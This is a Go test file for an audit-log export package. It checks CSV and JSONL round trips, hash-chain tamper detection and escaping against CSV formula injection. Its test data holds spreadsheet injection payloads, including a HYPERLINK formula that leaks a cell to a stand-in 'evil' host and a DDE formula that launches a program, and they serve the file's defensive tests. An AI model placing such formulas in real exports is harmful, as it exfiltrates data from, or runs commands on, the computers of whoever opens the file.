package auditexport_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/watchword/watchword/shared/auditexport"
	"github.com/watchword/watchword/shared/wire"
)

// chain builds a tenant's chain of events as the hub links them, with hostile text in names, targets and details.
func chain(n int) []wire.AuditEvent {
	var out []wire.AuditEvent
	prev := ""
	at := time.Date(2026, 3, 4, 5, 6, 7, 123456789, time.UTC)
	details := []string{`=HYPERLINK("http://evil/"&A1)`, "+1+1", "-2", "@SUM(A1)", "'quoted", "\ttab", "plain, with \"quotes\"\nand a line", ""}
	for i := 1; i <= n; i++ {
		e := wire.AuditEvent{Seq: int64(i), Tenant: 3, At: at.Add(time.Duration(i) * time.Second), ActorKind: "admin", ActorID: 1,
			Action: "tech.approve", Target: "tech 8", Detail: details[i%len(details)], PrevHash: prev}
		e.Hash = auditexport.EventHash(e)
		prev = e.Hash
		out = append(out, e)
	}
	return out
}

func export(t *testing.T, f auditexport.Format, evs []wire.AuditEvent) []byte {
	t.Helper()
	var buf bytes.Buffer
	w, err := auditexport.NewWriter(&buf, f)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range evs {
		if err := w.Write(auditexport.Row{AuditEvent: e, Actor: "=cmd|' /C calc'!A0", Summary: "@Alice approved bob"}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// TestRoundTrip: both formats read back to the events written, and verify, with every link checked.
func TestRoundTrip(t *testing.T) {
	evs := chain(9)
	for _, f := range []auditexport.Format{auditexport.CSV, auditexport.JSONL} {
		got, err := auditexport.Read(bytes.NewReader(export(t, f, evs)))
		if err != nil || len(got) != len(evs) {
			t.Fatalf("%s: read %d events, %v", f, len(got), err)
		}
		for i := range got {
			if got[i] != evs[i] && !(got[i].At.Equal(evs[i].At) && got[i].Detail == evs[i].Detail && got[i].Hash == evs[i].Hash) {
				t.Fatalf("%s: event %d read back as %+v, want %+v", f, i, got[i], evs[i])
			}
		}
		r := auditexport.Verify(got)
		if len(r.Problems) > 0 || r.Links != 8 || r.Gaps != 0 || r.Tenant != 3 || r.First != 1 || r.Last != 9 {
			t.Fatalf("%s: %+v", f, r)
		}
		if !strings.HasPrefix(r.String(), "audit export intact: 9 events of tenant 3, seq 1 to 9") {
			t.Fatalf("%s: %s", f, r)
		}
	}
}

// TestCSVFormulaInjection: no cell of a CSV export starts with a character a spreadsheet runs as a formula.
func TestCSVFormulaInjection(t *testing.T) {
	recs, err := csv.NewReader(bytes.NewReader(export(t, auditexport.CSV, chain(9)))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := 0
	for _, rec := range recs[1:] {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Fatalf("cell %q would run as a formula", cell)
			}
			if strings.HasPrefix(cell, "'=") || strings.HasPrefix(cell, "'@") {
				seen++
			}
		}
	}
	if seen == 0 {
		t.Fatal("no escaped cell: the test wrote no hostile text")
	}
	for _, s := range []string{"=1", "+", "-x", "@a", "'", "''", "a'", "", "\rx"} {
		if got := auditexport.Unescape(auditexport.Escape(s)); got != s {
			t.Fatalf("escape %q: round trip gives %q", s, got)
		}
	}
}

// TestVerifyFinds: an altered event, a broken link, a repeated one and another tenant's; a filtered export has
// gaps, not problems.
func TestVerifyFinds(t *testing.T) {
	evs := chain(6)
	filtered := []wire.AuditEvent{evs[0], evs[2], evs[3], evs[5]}
	if r := auditexport.Verify(filtered); len(r.Problems) > 0 || r.Links != 1 || r.Gaps != 2 {
		t.Fatalf("filtered: %+v", r)
	}
	for name, c := range map[string]struct {
		edit func([]wire.AuditEvent) []wire.AuditEvent
		want string
	}{
		"altered detail": {func(e []wire.AuditEvent) []wire.AuditEvent { e[2].Detail = "nothing to see"; return e }, "event 3 was altered"},
		"altered time":   {func(e []wire.AuditEvent) []wire.AuditEvent { e[4].At = e[4].At.Add(time.Nanosecond); return e }, "event 5 was altered"},
		"relinked": {func(e []wire.AuditEvent) []wire.AuditEvent {
			e[3].PrevHash = e[1].Hash
			e[3].Hash = auditexport.EventHash(e[3])
			return e
		}, "event 4 does not link to event 3"},
		"repeated":     {func(e []wire.AuditEvent) []wire.AuditEvent { return append(e, e[5]) }, "event 6 follows event 6"},
		"other tenant": {func(e []wire.AuditEvent) []wire.AuditEvent { e[1].Tenant = 4; return e }, "event 2 is of tenant 4"},
		"no hashes":    {func(e []wire.AuditEvent) []wire.AuditEvent { e[1].PrevHash = ""; return e }, "event 2 carries no chain hashes"},
	} {
		evs := chain(6)
		r := auditexport.Verify(c.edit(evs))
		if len(r.Problems) == 0 || !strings.Contains(r.String(), c.want) || !strings.HasPrefix(r.String(), "audit export BROKEN") {
			t.Fatalf("%s: %s", name, r)
		}
	}
	if _, err := auditexport.Read(strings.NewReader("a,b\n1,2\n")); err == nil || !strings.Contains(err.Error(), `no "seq" column`) {
		t.Fatalf("not an export: %v", err)
	}
}
